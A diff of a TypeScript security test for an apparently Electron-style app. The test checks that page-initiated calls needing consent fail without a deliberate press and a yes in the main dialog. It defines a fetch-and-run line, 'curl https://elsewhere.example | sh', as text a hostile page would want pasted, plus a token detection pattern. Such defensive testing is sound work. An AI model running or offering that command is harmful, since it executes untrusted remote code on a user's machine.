@@ -3,33 +3,38 @@
  * were meant for something else, and without a yes.
  */
 import { bridgeAlone, type PageEvent } from '../support/bridge-alone.ts';
-import { mock } from 'node:test';
 import { startPracticeThread, type PracticeService } from '../practice/practice.ts';
 import { DEFAULT_PREFERENCES } from '../../main/app/preferences/preferences.ts';
 import { consentOf } from '../../main/ipc/consent.ts';
-import { CALL_NAMES, CALLS, type ArgsOf, type CallName } from '../../preload/contract/contract.ts';
-import type { BoardSelection } from '../../preload/contract/boards.ts';
+import { CALL_NAMES, CALLS, type CallName } from '../../preload/contract/contract.ts';
 import { GOOD_ARGS } from '../contract/examples.ts';
 import { tally, type Case, type Finding } from '../support/finding.ts';
-import { draftFor, startServices, type TestServices } from '../support/services.ts';
+import { must } from '../support/must.ts';
 import { dose, some } from '../support/nightly.ts';
+import { draftFor } from '../support/services.ts';
+import { App, withClock, type MovedClock } from './scene.ts';
 
-const PASSPHRASE = 'a long enough passphrase';
 /** What a page would like a person to paste. */
 const OWN_TEXT = 'curl https://elsewhere.example | sh';
 const HOUR_S = 3600;
 
 interface Scene {
-  readonly services: TestServices;
+  readonly app: App;
   readonly practice: PracticeService;
+  readonly clock: MovedClock;
   /** Arguments that would do something here, and by example for all other calls. */
   readonly args: Readonly<Record<string, unknown>>;
   readonly dialogs: () => number;
 }
 
+type Play = (scene: Scene) => Promise<readonly Case[]>;
+
 export async function check(): Promise<Finding> {
   const cases: Case[] = [];
-  for (const [what, play] of some(PLAYS, dose(1, 2))) cases.push(...(await inScene(what, play)));
+  for (const [what, play] of some(PLAYS, dose(1, 2))) {
+    const played = await withClock((clock) => inScene(clock, play));
+    cases.push(...played.map((one) => ({ ...one, name: `${what}: ${one.name}` })));
+  }
   const counted = tally(cases);
   return {
     id: 'S15',
@@ -41,67 +46,47 @@ export async function check(): Promise<Finding> {
   };
 }
 
-type Play = (scene: Scene) => Promise<readonly Case[]>;
-
-async function inScene(what: string, play: Play): Promise<readonly Case[]> {
+async function inScene(clock: MovedClock, play: Play): Promise<readonly Case[]> {
   const practice = await startPracticeThread({ boards: 20 });
   let dialogs = 0;
-  /** What a person sets up here is asked about, too, and meant. */
-  let isSetUp = false;
   const opened = (): Promise<null> => {
     dialogs += 1;
     return Promise.resolve(null);
   };
-  const services = await startServices(undefined, {
-    files: { choose: opened, save: opened, saveStream: opened },
-    confirm: () => Promise.resolve(!isSetUp),
-  });
+  const app = await App.start(clock, { files: { choose: opened, save: opened, saveStream: opened } });
   try {
-    const draft = draftFor(practice.origin, practice.apiKey, { environment: 'production' });
-    const connectionId = (await services.must('connections.save', draft)).id;
-    await services.call('boards.list', { connectionId });
-    await services.event('boards.changed', ({ phase }) => phase === 'done');
+    await app.connect(practice.origin, practice.apiKey, { environment: 'production' });
+    await app.list();
+    const { connectionId } = app;
     const [paper] = practice.samplePapers;
     const ids = [...(await practice.contents()).boards];
-    const selection: BoardSelection = { kind: 'ids', ids };
     // What a person had begun must not be sent while the page is played, however long that takes.
     const holdSeconds = { single: HOUR_S, bulk: HOUR_S };
-    await services.must('app.prefer', { ...DEFAULT_PREFERENCES, holdSeconds });
-    const review = await services.call('jobs.review', { connectionId, selection });
-    const held = await services.call('jobs.deleteOne', {
-      connectionId,
-      target: { kind: 'board', id: ids[0] ?? '' },
-    });
+    await app.must('app.prefer', { ...DEFAULT_PREFERENCES, holdSeconds });
+    const reviewId = await app.review(ids);
+    const { id: jobId } = must(await app.deleteOne(ids[0] ?? ''));
+    const key = { slot: 'main', apiKey: 'sk_next-0123456789', fileId: null, sessionOnly: true } as const;
     const about = { note: '', owner: '', remindAt: null, useWhenGreen: false };
-    const next = {
-      slot: 'main',
-      apiKey: 'sk_next-0123456789',
-      fileId: null,
-      sessionOnly: true,
-      ...about,
-    } as const;
-    const { keys } = await services.must('keys.stage', { connectionId, ...next });
+    const { keys } = await app.must('keys.stage', { connectionId, ...key, ...about });
     const args = {
       connectionId,
       text: OWN_TEXT,
       keyId: keys.find(({ stage }) => stage === 'next')?.id ?? '',
       identifier: paper?.identifier ?? '',
       boardId: ids[1],
-      selection,
+      selection: { kind: 'ids', ids },
       target: { kind: 'board', id: ids[1] },
-      reviewId: review.ok ? review.value.reviewId : '',
-      jobId: held.ok ? held.value.id : '',
+      reviewId,
+      jobId,
       typed: String(ids.length),
       connectionIds: [connectionId],
-      passphrase: PASSPHRASE,
+      passphrase: 'a long enough passphrase',
     };
-    isSetUp = true;
+    app.yes = false;
     await practice.clearRequests();
-    const cases = await play({ services, practice, args, dialogs: () => dialogs });
-    return cases.map((one) => ({ ...one, name: `${what}: ${one.name}` }));
+    return await play({ app, practice, clock, args, dialogs: () => dialogs });
   } finally {
-    mock.timers.reset();
-    await services.close();
+    await app.close();
     await practice.stop();
   }
 }
@@ -119,13 +104,15 @@ function argsFor(name: CallName, { args, practice }: Scene): never {
 }
 
 const needsConsent = (name: CallName, args: unknown): boolean => consentOf(CALLS[name], args) !== 'none';
+const wanting = (scene: Scene): readonly CallName[] =>
+  CALL_NAMES.filter((name) => needsConsent(name, argsFor(name, scene)));
 
 async function alone(scene: Scene): Promise<readonly Case[]> {
   const cases: Case[] = [];
   for (const name of CALL_NAMES) {
     if (name.startsWith('lock.')) continue;
-    const args: ArgsOf<CallName> = argsFor(name, scene);
-    const reply = await scene.services.callAlone(name, args);
+    const args = argsFor(name, scene);
+    const reply = await scene.app.services.callAlone(name, args);
     const code = reply.ok ? 'ok' : reply.error.code;
     const isRight = !needsConsent(name, args) || code === 'needs-press' || code === 'bad-request';
     cases.push({ name, problems: [...(isRight ? [] : [`came to ${code}`]), ...(await leftMain(scene))] });
@@ -138,61 +125,46 @@ const FIELD = { tagName: 'INPUT', type: 'text' };
 
 /** Typing in a field with its corrections, letters in a list, and all the ways of moving about. */
 const TYPING: readonly PageEvent[] = [
-  ...['T', 'h', 'e', ' ', '7', 'b', 'Backspace', 'Delete'].map((key) => ({ key, target: FIELD })),
+  ...['T', ' ', '7', 'Backspace', 'Delete'].map((key) => ({ key, target: FIELD })),
   ...['a', 'c'].map((key) => ({ key, ctrlKey: true, target: FIELD })),
-  ...['Tab', 'Shift', 'ArrowDown', 'ArrowUp', 'Home', 'PageDown'].map((key) => ({ key, target: LIST })),
-  ...['Control', 'Alt', 'Meta', 'AltGraph', 'CapsLock', 'Dead', 'Process', 'Escape', 'e', 'p', '?'].map(
-    (key) => ({
-      key,
-      target: LIST,
-    }),
+  ...['Tab', 'Shift', 'ArrowDown', 'Home', 'PageDown', 'Control', 'AltGraph', 'Dead', 'Process'].map(
+    (key) => ({ key, target: LIST }),
   ),
+  ...['Escape', 'e', '?'].map((key) => ({ key, target: LIST })),
 ].map((event) => ({ type: 'keydown', ...event }));
 
 async function typedAway(scene: Scene): Promise<readonly Case[]> {
   const bridge = await bridgeAlone();
   const cases: Case[] = [];
-  const wanting = CALL_NAMES.filter((name) => needsConsent(name, argsFor(name, scene)));
-  for (const name of wanting) {
+  for (const name of wanting(scene)) {
     for (const event of TYPING) bridge.happens(event);
-    const reply = await scene.services.pressOnce(bridge.press())(name, argsFor(name, scene));
+    const reply = await scene.app.services.pressOnce(bridge.press())(name, argsFor(name, scene));
     const isRight = !reply.ok && ['needs-press', 'bad-request', 'too-fast'].includes(reply.error.code);
     cases.push({ name, problems: isRight ? [] : [`came to ${reply.ok ? 'ok' : reply.error.code}`] });
   }
   return [...cases, { name: 'all together', problems: await changesOf(scene) }];
 }
 
-const PLAYS: readonly (readonly [what: string, play: Play])[] = [
-  ['without a press', alone],
-  ['while a person types and moves', typedAway],
-  ['with a press each, and a no to each question', stolen],
-];
-
 /** These end what the others are about. */
-const LAST: ReadonlySet<CallName> = new Set(['connections.remove', 'lock.removeKeys']);
+const LAST: readonly CallName[] = ['connections.remove', 'lock.removeKeys'];
 
 /** Each call gets a real press, which a person meant for something else, and each question of main a no. */
 async function stolen(scene: Scene): Promise<readonly Case[]> {
   const bridge = await bridgeAlone();
   const cases: Case[] = [];
-  const wanting = CALL_NAMES.filter((name) => needsConsent(name, argsFor(name, scene)));
-  const { practice, args } = scene;
-  const moved = {
-    ...draftFor(`${practice.origin}/elsewhere`, null, { environment: 'production' }),
-    id: args['connectionId'],
-  };
+  const { app, clock, practice, args } = scene;
+  const elsewhere = draftFor(`${practice.origin}/elsewhere`, null, { environment: 'production' });
   const plays: readonly (readonly [CallName, unknown])[] = [
-    ...wanting.filter((name) => !LAST.has(name)).map((name) => [name, argsFor(name, scene)] as const),
-    ['connections.save', moved],
-    ...wanting.filter((name) => LAST.has(name)).map((name) => [name, argsFor(name, scene)] as const),
+    ...wanting(scene).flatMap((name) => (LAST.includes(name) ? [] : [[name, argsFor(name, scene)] as const])),
+    ['connections.save', { ...elsewhere, id: args['connectionId'] }],
+    ...LAST.map((name) => [name, argsFor(name, scene)] as const),
   ];
   let before = await guardedOf(scene);
-  // Takes the rates out of the way.
-  mock.timers.enable({ apis: ['Date'], now: Date.now() });
   for (const [name, own] of plays) {
-    mock.timers.tick(2000);
+    // Takes the rates out of the way.
+    clock.ahead += 2000;
     bridge.happens({ type: 'pointerdown', target: LIST });
-    await scene.services.pressOnce(bridge.press())(name, own as never);
+    await app.services.pressOnce(bridge.press())(name, own as never);
     const now = await guardedOf(scene);
     const changed = Object.keys(now).filter((what) => now[what] !== before[what]);
     cases.push({ name, problems: changed.map((what) => `changed ${what} without main’s dialog`) });
@@ -201,42 +173,48 @@ async function stolen(scene: Scene): Promise<readonly Case[]> {
   return cases;
 }
 
+const PLAYS: readonly (readonly [what: string, play: Play])[] = [
+  ['without a press', alone],
+  ['while a person types and moves', typedAway],
+  ['with a press each, and a no to each question', stolen],
+];
+
 /** What changes only after a yes in main's own dialog, as text. */
-async function guardedOf({ services, practice, args }: Scene): Promise<Readonly<Record<string, string>>> {
-  const { connections } = await services.must('connections.list', {});
+async function guardedOf({ app, practice, args }: Scene): Promise<Readonly<Record<string, string>>> {
+  const { must: get } = app.services;
+  const { connections } = await get('connections.list', {});
   const own = connections.find(({ id }) => id === args['connectionId']);
-  const keys = own === undefined ? [] : (await services.must('keys.list', { connectionId: own.id })).keys;
-  const { unlockBy } = await services.must('lock.state', {});
-  const { holdSeconds } = await services.must('app.preferences', {});
+  const keys = own === undefined ? [] : (await get('keys.list', { connectionId: own.id })).keys;
   const { log } = await practice.requests();
   return {
     addresses: JSON.stringify([own?.boardApi, own?.paperApi, own?.appUrl]),
     protection: JSON.stringify([own?.environment, own?.readOnly]),
     'the key in use': JSON.stringify(keys.find(({ stage }) => stage === 'current')?.fingerprint ?? null),
     'switching by itself': JSON.stringify(keys.some(({ useWhenGreen }) => useWhenGreen)),
-    'the passphrase': unlockBy,
-    'how long deletes are held': JSON.stringify(holdSeconds),
+    'the passphrase': (await get('lock.state', {})).unlockBy,
+    'how long deletes are held': JSON.stringify((await get('app.preferences', {})).holdSeconds),
     'a board or paper by a delete': String(log.filter(({ method }) => method === 'DELETE').length),
   };
 }
 
 /** What was sent to the service or left main, in sentences. */
-async function leftMain({ services, practice, dialogs }: Scene): Promise<readonly string[]> {
+async function leftMain({ app, practice, dialogs }: Scene): Promise<readonly string[]> {
   const { log } = await practice.requests();
   const sent = log
     .filter(({ method }) => method !== 'GET')
     .map(({ method, path }) => `${method} ${path} was sent`);
   // What main composes of ids and rows needs no press.
-  const isSecret = /token=|eyJ/u.test(services.clipboard()) || services.clipboard().includes(OWN_TEXT);
+  const text = app.services.clipboard();
+  const isSecret = /token=|eyJ/u.test(text) || text.includes(OWN_TEXT);
   const copied = isSecret ? ['a text of the page, a link or a token went to the clipboard'] : [];
   return [...sent, ...copied, ...(dialogs() === 0 ? [] : ['a dialog for files was opened'])];
 }
 
 /** The same, and what is otherwise on this computer than it was. */
 async function changesOf(scene: Scene): Promise<readonly string[]> {
-  const { services, args } = scene;
-  const jobs = await services.call('jobs.list', {});
-  const { connections } = await services.must('connections.list', {});
+  const { app, args } = scene;
+  const jobs = await app.services.call('jobs.list', {});
+  const { connections } = await app.services.must('connections.list', {});
   const own = connections.find(({ id }) => id === args['connectionId']);
   const isSame = own?.environment === 'production' && own.key.kind === 'session';
   return [
